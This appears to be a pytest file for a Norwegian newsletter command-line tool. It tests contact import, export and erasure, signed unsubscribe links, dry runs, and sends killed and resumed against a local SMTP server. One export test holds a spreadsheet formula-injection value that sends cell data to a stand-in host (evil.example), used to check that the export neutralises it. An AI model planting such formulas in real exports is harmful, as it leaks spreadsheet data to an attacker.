"""Contacts and sending through the command line, and a send killed at random points and run again."""

from __future__ import annotations

import email
import json
import os
import random
import re
import signal
import subprocess
import sys
import time
from email import policy
from pathlib import Path

import pytest
from click.testing import CliRunner

from newsletter.cli import cli
from newsletter.store import Store
from tests.test_send import ScriptedSMTP, free_port  # noqa: F401 (server helpers)

REPO = Path(__file__).parent.parent


@pytest.fixture
def workspace(sample_workspace):
    return sample_workspace


def invoke(root, *args, input=None):
    return CliRunner().invoke(cli, ["--workspace", str(root), *args], input=input, catch_exceptions=False)


def send_command(workspace: Path) -> tuple[list[str], dict[str, str]]:
    """`newsletter send 2024-q2 --yes` as a process of its own on `workspace` (a real exit, real signals)."""
    env = {**os.environ, "PYTHONPATH": str(REPO), "NEWSLETTER_WORKSPACE": str(workspace)}
    return [sys.executable, "-m", "newsletter", "send", "2024-q2", "--yes"], env


def write_contacts(root: Path, count: int, extra: str = "") -> Path:
    rows = ["email;name;organisation;tags"] + [
        f"person{i:03d}@example.org;Person {i} Ødegård;Org {i % 3};{'helse' if i % 2 else 'politi'}"
        for i in range(count)
    ]
    path = root / "kontakter.csv"
    path.write_text("\n".join(rows) + "\n" + extra, encoding="utf-8")
    return path


def mailing_workspace(root: Path, port: int, contacts: int, smtp: str = "security: none", mail: str = "") -> Path:
    """`root` mailing through 127.0.0.1:`port` (`smtp` adds to the smtp: block, `mail` makes the mail:
    block), with `contacts` contacts imported and the issue built: what every test of a real send needs."""
    extra = "".join(f"  {line}\n" for line in smtp.splitlines())
    settings = f"\nsmtp:\n  host: 127.0.0.1\n  port: {port}\n  timeout: 5\n{extra}"
    settings += "mail:\n" + "".join(f"  {line}\n" for line in mail.splitlines()) if mail else ""
    path = root / "newsletter.yaml"
    path.write_text(path.read_text(encoding="utf-8") + settings, encoding="utf-8")
    if contacts:
        invoke(root, "contacts", "import", str(write_contacts(root, contacts)))
    assert invoke(root, "build", "2024-q2", "--format", "email,text").exit_code == 0
    return root


def test_contacts_commands(workspace):
    path = write_contacts(workspace, 4, "ikke-en-adresse;Feil;;\nPERSON001@EXAMPLE.ORG;;Annen org;nytt\n")
    result = invoke(workspace, "contacts", "import", str(path))
    assert result.exit_code == 1  # the valid rows are in; a script learns that one was not
    assert "added 4, merged 1, kept suppressed 0, invalid 1" in result.stdout
    assert f"{path}, line 6: 'ikke-en-adresse'" in result.stderr
    assert f"{path}: fix the invalid rows above and import the file again (the rest merge)" in result.stderr
    listed = json.loads(invoke(workspace, "contacts", "list", "--json").stdout)
    assert [c["email"] for c in listed] == [f"person{i:03d}@example.org" for i in range(4)]
    assert (
        invoke(workspace, "contacts", "add", "ny@eksempel.no", "--name", "Ny Person", "--tag", "frivillig").exit_code
        == 0
    )
    assert invoke(workspace, "contacts", "unsubscribe", "person002@example.org").exit_code == 0
    again = invoke(workspace, "contacts", "import", str(path))
    assert "kept suppressed 1" in again.stdout
    # Which one, by line, and the way back if the person asked.
    assert (
        f"{path}, line 4: person002@example.org: unsubscribed earlier, so not made active again; if the person has "
        "asked to be on the list again, `newsletter contacts add person002@example.org --resubscribe --consent-source "
        '"how they asked"`'
    ) in again.stdout.splitlines()
    statuses = {c["email"]: c["status"] for c in json.loads(invoke(workspace, "contacts", "list", "--json").stdout)}
    assert statuses["person002@example.org"] == "unsubscribed"
    assert invoke(workspace, "contacts", "erase", "person003@example.org", "--yes").exit_code == 0
    exported = invoke(workspace, "contacts", "export").stdout
    assert exported.startswith("email,name,organisation,tags,legal_basis,consent_source,consent_date,status")
    assert "person003" not in exported and "Person 3 " not in exported
    assert invoke(workspace, "contacts", "add", "person003@example.org").exit_code == 1
    helse = invoke(workspace, "contacts", "list", "--tag", "helse").stdout
    assert "person001@example.org" in helse and "person000@example.org" not in helse


def test_send_refuses_without_a_current_build(workspace):
    write_contacts(workspace, 2)
    build_dir = workspace / "build" / "2024-q2"
    result = invoke(workspace, "send", "2024-q2", "--dry-run")
    assert result.exit_code == 1
    assert (
        result.stderr
        == f"Error: {build_dir}: no build manifest (manifest.json); run `newsletter build 2024-q2` first\n"
    )
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    issue = workspace / "issues" / "2024-q2.yaml"
    later = time.time() + 5
    os.utime(issue, (later, later))  # touched, not changed: the build is still the issue's
    assert invoke(workspace, "send", "2024-q2", "--dry-run").exit_code == 0
    with open(issue, "a", encoding="utf-8") as handle:
        handle.write("# a last edit\n")  # the editor changed the issue after the build
    stale = invoke(workspace, "send", "2024-q2", "--dry-run")
    assert stale.exit_code == 1
    assert stale.stderr == (
        f"Error: {build_dir}: the build is older than the issue file (changed since); "
        "run `newsletter build 2024-q2` first\n"
    )
    pdf = invoke(workspace, "send", "2024-q2", "--dry-run", "--attach-pdf")
    assert pdf.exit_code == 1


def test_a_build_interrupted_between_two_parts_leaves_the_previous_build_whole(workspace, monkeypatch):
    """Ctrl-C after the new HTML part was written: the previous build, its parts and manifest, is as it
    was, nothing of the interrupted one is left next to it, and `send` judges the previous build alone:
    refused while the issue differs from what it was built from, accepted once it is the same again."""
    import importlib

    render_build = importlib.import_module("newsletter.render.build")
    write_contacts(workspace, 2)
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    build_dir = workspace / "build" / "2024-q2"
    before = {p.name: p.read_bytes() for p in build_dir.iterdir()}
    issue = workspace / "issues" / "2024-q2.yaml"
    issue.write_text(
        issue.read_text(encoding="utf-8").replace("title: Nyhetsbrev", "title: Nyhetsbrev (ny)", 1), encoding="utf-8"
    )
    real_write = render_build.atomic_write
    written = []

    def dies_at_the_text_part(path, data, durable=True):
        if path.name == "email.txt":
            raise KeyboardInterrupt  # Ctrl-C after the HTML part was written
        real_write(path, data, durable)
        written.append(path.name)

    monkeypatch.setattr(render_build, "atomic_write", dies_at_the_text_part)
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 1  # click: Aborted!
    monkeypatch.undo()
    assert written == ["email.html"]
    assert {p.name: p.read_bytes() for p in build_dir.iterdir()} == before
    assert sorted(p.name for p in build_dir.parent.iterdir()) == ["2024-q2"]
    refused = invoke(workspace, "send", "2024-q2", "--dry-run")
    assert refused.exit_code == 1
    assert refused.stderr == (
        f"Error: {build_dir}: the build is older than the issue file (changed since); "
        "run `newsletter build 2024-q2` first\n"
    )
    issue.write_text(
        issue.read_text(encoding="utf-8").replace("title: Nyhetsbrev (ny)", "title: Nyhetsbrev", 1), encoding="utf-8"
    )
    assert invoke(workspace, "send", "2024-q2", "--dry-run").exit_code == 0  # the previous build, whole


def test_a_part_from_another_build_is_refused(workspace):
    """A part copied in from elsewhere (by hand, or by an older version of the tool that wrote in place):
    its bytes are not the manifest's, so `send` refuses the build until it is built again."""
    write_contacts(workspace, 2)
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    build_dir = workspace / "build" / "2024-q2"
    (build_dir / "email.html").write_text("<p>en annen utgave</p>", encoding="utf-8")
    mixed = invoke(workspace, "send", "2024-q2", "--dry-run")
    assert mixed.exit_code == 1
    assert mixed.stderr == (
        f"Error: {build_dir}: email.html is not from the same build as the manifest (an interrupted build, or a "
        "part from another one); run `newsletter build 2024-q2` first\n"
    )
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    assert invoke(workspace, "send", "2024-q2", "--dry-run").exit_code == 0


def test_a_template_that_fails_half_way_leaves_the_previous_build_and_the_next_build_cleans_up(workspace):
    """A template error while rendering (the preview's rebuild on every save) changes nothing on disk; what
    a killed build left (its half-written folder, a build moved aside, a temporary file) is cleaned, and a
    build moved aside and never replaced is put back, by the next build."""
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    build_dir = workspace / "build" / "2024-q2"
    before = {p.name: p.read_bytes() for p in build_dir.iterdir()}
    templates = workspace / "templates"
    templates.mkdir(exist_ok=True)
    (templates / "email.txt").write_text("{{ no_such_value.at_all }}\n", encoding="utf-8")
    failed = invoke(workspace, "build", "2024-q2", "--format", "email,text")
    assert failed.exit_code == 1 and "email.txt" in failed.stderr
    assert {p.name: p.read_bytes() for p in build_dir.iterdir()} == before
    (templates / "email.txt").unlink()

    # A build killed (kill -9) mid-way, and another killed between the two renames of the swap.
    (build_dir.parent / ".2024-q2.building-abc123").mkdir()
    (build_dir.parent / ".2024-q2.building-abc123" / "email.html").write_text("halv", encoding="utf-8")
    (build_dir / ".email.txt.x1y2.tmp").write_text("halv", encoding="utf-8")
    aside = build_dir.parent / ".2024-q2.previous-def456"
    aside.mkdir()
    build_dir.rename(aside / "2024-q2")
    assert invoke(workspace, "send", "2024-q2", "--dry-run").exit_code == 1  # no build where send looks
    from newsletter.render.build import clean_leftovers

    clean_leftovers(build_dir)
    assert sorted(p.name for p in build_dir.parent.iterdir()) == ["2024-q2"]
    assert {p.name: p.read_bytes() for p in build_dir.iterdir()} == before  # put back, the .tmp gone
    assert invoke(workspace, "build", "2024-q2", "--format", "web").exit_code == 0
    assert sorted(p.name for p in build_dir.parent.iterdir()) == ["2024-q2"]
    # A build of one format keeps the others of the same sources: preview's web/e-mail/text keep the PDF so.
    assert {"email.html", "email.txt", "index.html", "manifest.json"} <= {p.name for p in build_dir.iterdir()}
    assert invoke(workspace, "send", "2024-q2", "--dry-run").exit_code == 0


def test_dry_run_writes_one_correct_eml_per_active_contact_and_never_twice(workspace):
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 12)))
    invoke(workspace, "contacts", "unsubscribe", "person005@example.org")
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    result = invoke(workspace, "send", "2024-q2", "--dry-run")
    assert result.exit_code == 0, result.output
    outbox = workspace / "var" / "outbox" / "2024-q2"
    files = sorted(outbox.glob("*.eml"))
    assert len(files) == 11 and "person005@example.org.eml" not in {f.name for f in files}
    message = email.message_from_bytes(files[0].read_bytes(), policy=policy.default)
    assert message["To"].addresses[0].display_name == "Person 0 Ødegård"
    assert message["Subject"] == "Nyhetsbrev fra KOM – april–juni 2024"
    status = json.loads(invoke(workspace, "send", "status", "2024-q2", "--dry-run", "--json").stdout)
    assert status["counts"]["sent"] == 11 and status["counts"]["pending"] == 0
    real = json.loads(invoke(workspace, "send", "status", "2024-q2", "--json").stdout)
    assert sum(real["counts"].values()) == 0  # the dry run did not use up the real send
    again = invoke(workspace, "send", "2024-q2", "--dry-run")
    assert again.exit_code == 0 and "written 0 now" in again.stdout
    assert len(list(outbox.glob("*.eml"))) == 11


def test_a_test_copy_records_nothing(workspace):
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 2)))
    invoke(workspace, "build", "2024-q2", "--format", "email,text")
    result = invoke(workspace, "send", "2024-q2", "--dry-run", "--to", "redaktor@example.org")
    assert result.exit_code == 0 and "nothing recorded" in result.stdout
    assert (workspace / "var" / "outbox" / "2024-q2" / "redaktor@example.org.eml").exists()
    with Store(workspace / "var" / "newsletter.db") as store:
        assert store.db.execute("SELECT count(*) FROM sends").fetchone()[0] == 0


@pytest.mark.parametrize(
    ("given", "says"),
    [
        ("", "--to is empty: give the address the test copy goes to, or leave --to out to send"),
        (
            "redaktor.example.org",
            "--to 'redaktor.example.org' is no e-mail address (An email address must have an @-sign): give the one "
            "the test copy goes to",
        ),
    ],
)
def test_an_empty_or_broken_test_address_is_refused_not_a_send_to_everyone(workspace, given, says):
    """`--to "$TESTADDR"` with the variable unset must not mail the whole list, nor a typo go nowhere quietly."""
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 2)))
    invoke(workspace, "build", "2024-q2", "--format", "email,text")
    result = invoke(workspace, "send", "2024-q2", "--dry-run", "--to", given)
    assert result.exit_code == 2 and result.stderr.splitlines()[-1] == f"Error: {says}"
    with Store(workspace / "var" / "newsletter.db") as store:
        assert store.db.execute("SELECT count(*) FROM sends").fetchone()[0] == 0
    assert not (workspace / "var" / "outbox").exists() or not any((workspace / "var" / "outbox").rglob("*.eml"))


def test_erase_removes_the_outbox_copies(workspace):
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 2)))
    invoke(workspace, "build", "2024-q2", "--format", "email,text")
    invoke(workspace, "send", "2024-q2", "--dry-run")
    outbox = workspace / "var" / "outbox" / "2024-q2"
    assert (outbox / "person001@example.org.eml").exists()
    result = invoke(workspace, "contacts", "erase", "person001@example.org", "--yes")
    assert "1 messages removed from the outbox" in result.stdout
    assert not (outbox / "person001@example.org.eml").exists()
    leftover = b"".join(p.read_bytes() for p in (workspace / "var" / "outbox").rglob("*") if p.is_file())
    assert b"person001" not in leftover


def test_contacts_unsubscribe_accepts_a_received_one_click_link(workspace, monkeypatch):
    from newsletter.config import load_settings
    from newsletter.mail.compose import unsubscribe_links

    monkeypatch.setenv("NEWSLETTER_UNSUBSCRIBE_SECRET", "s3cret")
    with open(workspace / "newsletter.yaml", "a", encoding="utf-8") as handle:
        handle.write("unsubscribe_url: https://kom.example.no/avmelding\n")
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 2)))
    mail = load_settings(workspace / "newsletter.yaml").mail
    _mailto, url = unsubscribe_links("person000@example.org", mail)
    assert invoke(workspace, "contacts", "unsubscribe", url).exit_code == 0
    statuses = {c["email"]: c["status"] for c in json.loads(invoke(workspace, "contacts", "list", "--json").stdout)}
    assert statuses["person000@example.org"] == "unsubscribed"
    assert invoke(workspace, "contacts", "unsubscribe", url.replace("sig=", "sig=0")).exit_code == 1


def test_a_person_who_unsubscribed_is_subscribed_again_only_with_how_they_asked(workspace):
    """The footer tells readers to write to KOM to join: someone who unsubscribed and writes is not a dead end."""
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 3)))
    invoke(workspace, "contacts", "unsubscribe", "person001@example.org")
    invoke(workspace, "build", "2024-q2", "--format", "email,text")
    assert "written 2 now" in invoke(workspace, "send", "2024-q2", "--dry-run").stdout
    refused = invoke(workspace, "contacts", "add", "person001@example.org")
    assert refused.exit_code == 1 and refused.stderr.strip() == (
        "Error: person001@example.org: unsubscribed earlier; not added: if the person has asked to be on the list "
        'again, `newsletter contacts add person001@example.org --resubscribe --consent-source "how they asked"`'
    )
    bare = invoke(workspace, "contacts", "add", "person001@example.org", "--resubscribe")
    assert bare.exit_code == 2 and "--resubscribe needs --consent-source" in bare.stderr
    future = ["--resubscribe", "--consent-source", "e-post", "--consent-date", "2099-01-01"]
    ahead = invoke(workspace, "contacts", "add", "person001@example.org", *future)
    assert ahead.exit_code == 2 and "--consent-date 2099-01-01 is in the future: a typo?" in ahead.stderr
    again = invoke(
        workspace, "contacts", "add", "person001@example.org", "--resubscribe", "--consent-source", "e-post 3. mars"
    )
    assert again.exit_code == 0 and again.stdout == "subscribed again person001@example.org (consent: e-post 3. mars)\n"
    listed = {c["email"]: c for c in json.loads(invoke(workspace, "contacts", "list", "--json").stdout)}
    assert listed["person001@example.org"]["status"] == "active"
    assert listed["person001@example.org"]["consent_source"] == "e-post 3. mars"
    # The issue being sent reaches the person with the next run.
    assert "written 1 now" in invoke(workspace, "send", "2024-q2", "--dry-run").stdout


def test_unsubscribe_takes_an_endpoints_log_of_links_and_one_bad_line_harms_no_other(workspace, monkeypatch):
    """What an unsubscribe endpoint records (one received link a line) is handed over in one command; a
    forged link and a line that is no address are named by line, and the rest are unsubscribed."""
    from newsletter.config import load_settings
    from newsletter.mail.compose import unsubscribe_links

    monkeypatch.setenv("NEWSLETTER_UNSUBSCRIBE_SECRET", "s3cret")
    with open(workspace / "newsletter.yaml", "a", encoding="utf-8") as handle:
        handle.write("unsubscribe_url: https://kom.example.no/avmelding\n")
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 3)))
    invoke(workspace, "contacts", "add", "kari@blåbær.no")
    mail = load_settings(workspace / "newsletter.yaml").mail
    link = {address: unsubscribe_links(address, mail)[1] for address in ("kari@blåbær.no", "person001@example.org")}
    forged = link["person001@example.org"].replace("person001", "person002")
    mangled = "https://kom.example.no/avmelding?email=person002%40example.org&sig=%C3%A9"  # no ASCII signature
    log = workspace / "avmeldinger.txt"
    log.write_text(
        f"# the endpoint's log\n{link['kari@blåbær.no']}\n{forged}\n\nikke-en-adresse\n{mangled}\n", encoding="utf-8"
    )
    with open(log, "a", encoding="utf-8") as handle:  # as people write them in a mail, and one twice
        handle.write("mailto:Person002@example.org,\nPerson Nr 0 <person000@example.org>;\nperson001@example.org\n")
    result = invoke(workspace, "contacts", "unsubscribe", "person001@example.org", "--from", str(log))
    assert result.exit_code == 1
    # Said as the list has it, not as the link's ASCII form (xn--blbr-roah.no).
    assert result.stdout.splitlines() == [
        "unsubscribed person001@example.org",
        "unsubscribed kari@blåbær.no",
        "unsubscribed person002@example.org",
        "unsubscribed person000@example.org",
        "already unsubscribed person001@example.org",
    ]
    assert result.stderr.splitlines() == [
        f"error: {log}, line 3: {forged}: not an unsubscribe link of this list (missing or wrong signature); "
        "nobody was unsubscribed by it",
        f"error: {log}, line 5: 'ikke-en-adresse': An email address must have an @-sign.; nobody was unsubscribed "
        "by it",
        f"error: {log}, line 6: {mangled}: not an unsubscribe link of this list (missing or wrong signature); "
        "nobody was unsubscribed by it",
    ]
    statuses = {c["email"]: c["status"] for c in json.loads(invoke(workspace, "contacts", "list", "--json").stdout)}
    assert sorted(a for a, status in statuses.items() if status == "unsubscribed") == [
        "kari@blåbær.no",
        "person000@example.org",
        "person001@example.org",
        "person002@example.org",
    ]
    # A link, with no secret to check it by: said so, whatever newsletter.yaml holds.
    monkeypatch.delenv("NEWSLETTER_UNSUBSCRIBE_SECRET")
    unchecked = invoke(workspace, "contacts", "unsubscribe", link["person001@example.org"])
    assert unchecked.exit_code == 1 and "set NEWSLETTER_UNSUBSCRIBE_SECRET too" in unchecked.stderr


def test_erase_without_a_terminal_or_when_declined_changes_nothing_and_says_what_to_do(workspace, monkeypatch):
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 2)))
    piped = invoke(workspace, "contacts", "erase", "person001@example.org")
    assert piped.exit_code == 1
    assert piped.stderr.strip() == (
        "Error: contacts erase person001@example.org deletes for good: confirm on a terminal, or add --yes"
    )
    monkeypatch.setattr("newsletter.cli._stdin_is_terminal", lambda: True)
    declined = invoke(workspace, "contacts", "erase", "person001@example.org", input="n\n")
    assert declined.exit_code == 1 and "not erased: nothing was changed" in declined.stderr
    emails = [c["email"] for c in json.loads(invoke(workspace, "contacts", "list", "--json").stdout)]
    assert "person001@example.org" in emails


def test_send_status_lists_failures(workspace):
    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 2)))
    with Store(workspace / "var" / "newsletter.db") as store:
        store.db.execute(
            "INSERT INTO sends (issue, email, position, state, last_reply) VALUES "
            "('2024-q2', 'person000@example.org', 0, 'failed', '550 5.1.1 no such user')"
        )
    text = invoke(workspace, "send", "status", "2024-q2").stdout
    assert "failed 1" in text and "person000@example.org  550 5.1.1 no such user" in text


def test_send_status_tells_a_run_going_on_from_one_that_died_mid_message(workspace):
    """`sending 1` reads the same during a live run and after a kill: status says which it is."""
    from newsletter.mail.send import send_lock

    invoke(workspace, "contacts", "import", str(write_contacts(workspace, 2)))
    with Store(workspace / "var" / "newsletter.db") as store:
        store.db.execute(
            "INSERT INTO sends (issue, email, position, state) VALUES ('2024-q2', 'person000@example.org', 0, 'sending')"
        )
    died = invoke(workspace, "send", "status", "2024-q2")
    assert (
        "no send is running: 1 message left in `sending` by a run that stopped mid-message; the next "
        "`newsletter send 2024-q2` marks them unknown (they may have arrived) and goes on with the rest"
    ) in died.stdout.splitlines(), died.stdout
    with send_lock(workspace / "var", "2024-q2"):
        live = invoke(workspace, "send", "status", "2024-q2")
        assert "a send of it is running now: these counts change as it goes" in live.stdout.splitlines()
        assert "no send is running" not in live.stdout
        assert json.loads(invoke(workspace, "send", "status", "2024-q2", "--json").stdout)["running"] is True
    assert json.loads(invoke(workspace, "send", "status", "2024-q2", "--json").stdout)["running"] is False


def test_a_send_killed_at_random_points_delivers_each_message_once(workspace, tmp_path):
    """kill -9 during a real send, again and again: each recipient ends with one copy, or is flagged unknown."""
    from aiosmtpd.controller import Controller

    handler = ScriptedSMTP()
    controller = Controller(handler, hostname="127.0.0.1", port=free_port())
    controller.start()
    try:
        mailing_workspace(workspace, controller.port, 80, mail="rate_per_second: 100\nretry_base: 0.01")
        command, env = send_command(workspace)
        chance = random.Random(2024)

        def sent_so_far() -> int:
            try:
                with Store(workspace / "var" / "newsletter.db") as store:
                    return store.db.execute("SELECT count(*) FROM sends WHERE state = 'sent'").fetchone()[0]
            except Exception:  # the sender holds a write lock for a moment: ask again
                return -1

        kills = 0
        mid_send = 0  # killed runs that left some recipients sent and some still to go
        for _ in range(12):
            process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            # Kill once the ledger shows this run sending, after a random number of further messages:
            # a fixed delay could fall in the interpreter's start-up or after the run ended.
            before, extra = sent_so_far(), chance.randint(1, 12)
            while process.poll() is None and sent_so_far() < before + extra:
                time.sleep(0.005)
            if process.poll() is None:
                process.send_signal(signal.SIGKILL)
                process.wait()
                kills += 1
                with Store(workspace / "var" / "newsletter.db") as store:
                    states = {s for (s,) in store.db.execute("SELECT state FROM sends")}
                mid_send += "sent" in states and bool(states & {"pending", "sending", "unknown"})
                continue
            if process.returncode in (0, 1):  # ran to its end (1: some deliveries are unknown)
                break
        else:
            pytest.fail("the send never completed")
        final = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
        with Store(workspace / "var" / "newsletter.db") as store:
            states = dict(store.db.execute("SELECT email, state FROM sends WHERE issue = '2024-q2'").fetchall())
            assert store.held_addresses("2024-q2") == set()  # a finished run settles every refusal it held
        unknown = sum(state == "unknown" for state in states.values())
        assert final.returncode == (1 if unknown else 0), final.stderr
        if unknown:
            noun = "delivery" if unknown == 1 else "deliveries"
            assert f"warning: {unknown} {noun} unknown" in final.stderr
    finally:
        controller.stop()
    copies = handler.copies()
    assert kills >= 1 and mid_send >= 1, "no run was interrupted while sending: the test proved nothing"
    assert len(states) == 80
    for address, state in states.items():
        if state == "unknown":
            assert copies.get(address, 0) <= 1
        else:
            assert state == "sent" and copies.get(address) == 1, (address, state, copies.get(address))


class SlowData(ScriptedSMTP):
    """Takes its time over each message's data, so a signal falls inside a transaction."""

    in_data = 0

    async def handle_DATA(self, server, session, envelope):
        import asyncio

        self.in_data += 1
        await asyncio.sleep(0.3)
        return await super().handle_DATA(server, session, envelope)


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_a_signal_mid_send_stops_after_the_message_in_hand_leaving_nothing_unknown(workspace, signum):
    """Ctrl-C, or a shutdown's SIGTERM, while a message's data goes out: that message is finished and
    recorded `sent`, the run stops and says how to go on, and the next run mails the rest, once each."""
    from aiosmtpd.controller import Controller

    handler = SlowData()
    controller = Controller(handler, hostname="127.0.0.1", port=free_port())
    controller.start()
    database = workspace / "var" / "newsletter.db"
    try:
        mailing_workspace(workspace, controller.port, 6, mail="connections: 1")
        command, env = send_command(workspace)
        process = subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 30
        while handler.in_data < 2 and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)  # the second message's data is on its way
        assert process.poll() is None, "the send ended before the signal"
        process.send_signal(signum)
        _out, err = process.communicate(timeout=30)
        key = "Ctrl-C" if signum == signal.SIGINT else "SIGTERM"
        assert (
            f"stopped at {key} once the message in hand was through: nobody was mailed twice; "
            "`newsletter send 2024-q2` goes on where it stopped"
        ) in err, err
        assert process.returncode == 1 and "Traceback" not in err
        with Store(database) as store:
            states = [state for (state,) in store.db.execute("SELECT state FROM sends ORDER BY position")]
        assert states[:2] == ["sent", "sent"] and set(states) <= {"sent", "pending"}, states
        final = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
        assert final.returncode == 0, final.stderr
    finally:
        controller.stop()
    with Store(database) as store:
        assert {state for (state,) in store.db.execute("SELECT state FROM sends")} == {"sent"}
    assert handler.copies() == {f"person{n:03d}@example.org": 1 for n in range(6)}


class RefusingThenHanging(ScriptedSMTP):
    """Refuses the addresses in `rcpt_replies`, and keeps the one in `hang_for` waiting at RCPT TO."""

    hang_for: str | None = None
    hanging = False

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        import asyncio

        while address == self.hang_for:
            self.hanging = True
            await asyncio.sleep(0.02)
        return await super().handle_RCPT(server, session, envelope, address, rcpt_options)


def test_a_refusal_held_when_the_run_is_killed_is_tried_again_by_the_next_run(workspace):
    """kill -9 after a refusal the run could not yet tell from the server's: the next run sends it."""
    from aiosmtpd.controller import Controller

    handler = RefusingThenHanging()
    handler.rcpt_replies["person000@example.org"] = "550 5.1.1 no such user"
    handler.hang_for = "person001@example.org"
    controller = Controller(handler, hostname="127.0.0.1", port=free_port())
    controller.start()
    database = workspace / "var" / "newsletter.db"
    try:
        mailing_workspace(workspace, controller.port, 3, mail="connections: 1")
        command, env = send_command(workspace)
        process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 30
        while not handler.hanging and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.02)  # the first refused, the second waiting at RCPT TO: the refusal is held
        assert process.poll() is None, "the send ended before it could be killed"
        process.send_signal(signal.SIGKILL)
        process.wait()
        with Store(database) as store:
            held = store.db.execute(
                "SELECT state FROM sends WHERE email = 'person000@example.org' AND next_attempt_at IS NOT NULL"
            ).fetchall()
            assert [tuple(row) for row in held] == [("failed",)]  # as a refusal reads, but marked held
            contact = store.db.execute("SELECT status FROM contacts WHERE email = 'person000@example.org'").fetchone()
            assert tuple(contact) == ("active",)  # not bounced: the run never showed the server takes mail
        # Until the next run it reads as the refusal it was, with what will happen to it.
        status = invoke(workspace, "send", "status", "2024-q2")
        assert (
            "  failed       person000@example.org  RCPT TO: 550 5.1.1 no such user (refused in a run that stopped "
            "before it could tell the recipient's refusal from the server's; the next send tries it again)"
        ) in status.stdout.splitlines(), status.stdout
        [held_row] = json.loads(invoke(workspace, "send", "status", "2024-q2", "--json").stdout)["failures"]
        assert held_row["email"] == "person000@example.org" and held_row["held"] is True
        handler.hang_for = None
        handler.rcpt_replies.clear()  # the refusal was the server's after all: it takes everyone now
        final = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
        assert final.returncode == 0, final.stderr
        # The plan counts it among those this run sends: all three (the other two never got past RCPT TO).
        assert final.stdout.startswith("2024-q2: 0 new, 3 pending, 0 to retry\n"), final.stdout
    finally:
        controller.stop()
    with Store(database) as store:
        states = dict(store.db.execute("SELECT email, state FROM sends WHERE issue = '2024-q2'").fetchall())
    assert states == dict.fromkeys((f"person{n:03d}@example.org" for n in range(3)), "sent")
    assert handler.copies() == dict.fromkeys(states, 1)
    with Store(database) as store:  # settled: no row keeps the mark of a held one
        assert store.held_addresses("2024-q2") == set()


def test_an_idn_recipient_unsubscribes_with_a_link_in_either_form(workspace, monkeypatch):
    from urllib.parse import quote

    from newsletter.config import load_settings
    from newsletter.mail.compose import unsubscribe_links

    monkeypatch.setenv("NEWSLETTER_UNSUBSCRIBE_SECRET", "s3cret")
    with open(workspace / "newsletter.yaml", "a", encoding="utf-8") as handle:
        handle.write("unsubscribe_url: https://kom.example.no/avmelding\n")
    for address in ("per@blåbær.no", "kari@blåbær.no"):
        assert invoke(workspace, "contacts", "add", address).exit_code == 0
    mail = load_settings(workspace / "newsletter.yaml").mail
    _mailto, sent = unsubscribe_links("per@blåbær.no", mail)
    assert "email=per%40xn--blbr-roah.no&" in sent  # the link carries the ASCII form, as the message went out
    _mailto, other = unsubscribe_links("kari@blåbær.no", mail)
    unicode_form = other.replace(quote("kari@xn--blbr-roah.no"), quote("kari@blåbær.no"))
    assert unicode_form != other
    for url in (sent, unicode_form):
        result = invoke(workspace, "contacts", "unsubscribe", url)
        assert result.exit_code == 0, result.output
    statuses = {c["email"]: c["status"] for c in json.loads(invoke(workspace, "contacts", "list", "--json").stdout)}
    assert statuses == {"per@blåbær.no": "unsubscribed", "kari@blåbær.no": "unsubscribed"}


def test_contacts_export_neutralises_formula_cells_and_imports_back_unchanged(workspace, tmp_path):
    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"klikk")'
    assert (
        invoke(workspace, "contacts", "add", "a@example.org", "--name", hostile, "--organisation", "+47 22").exit_code
        == 0
    )
    assert invoke(workspace, "contacts", "add", "b@example.org", "--name", "@SUM(1)", "--tag", "-helse").exit_code == 0
    plain = invoke(workspace, "contacts", "export").stdout
    assert '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""klikk"")"' in plain
    assert ",'+47 22," in plain and ",'@SUM(1)," in plain and ",'-helse," in plain
    excel = invoke(workspace, "contacts", "export", "--excel").stdout
    assert excel.startswith("\ufeffemail;name;organisation;tags;")
    copy = tmp_path / "kopi.csv"
    copy.write_text(excel, encoding="utf-8", newline="")
    other = tmp_path / "other"
    (other / "var").mkdir(parents=True)
    for name in ("newsletter.yaml", "feeds.yaml"):
        (other / name).write_bytes((workspace / name).read_bytes())
    assert invoke(other, "contacts", "import", str(copy)).exit_code == 0
    back = {c["email"]: c for c in json.loads(invoke(other, "contacts", "list", "--json").stdout)}
    assert back["a@example.org"]["name"] == hostile and back["a@example.org"]["organisation"] == "+47 22"
    assert back["b@example.org"]["name"] == "@SUM(1)" and back["b@example.org"]["tags"] == ["-helse"]


def test_templates_init_keeps_a_build_sendable_and_an_edited_template_does_not(workspace):
    """Copies identical to the built-ins change nothing a build is made from; an edited copy does."""
    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
    assert invoke(workspace, "templates", "init").exit_code == 0
    assert (workspace / "templates" / ".built-in.json").exists()
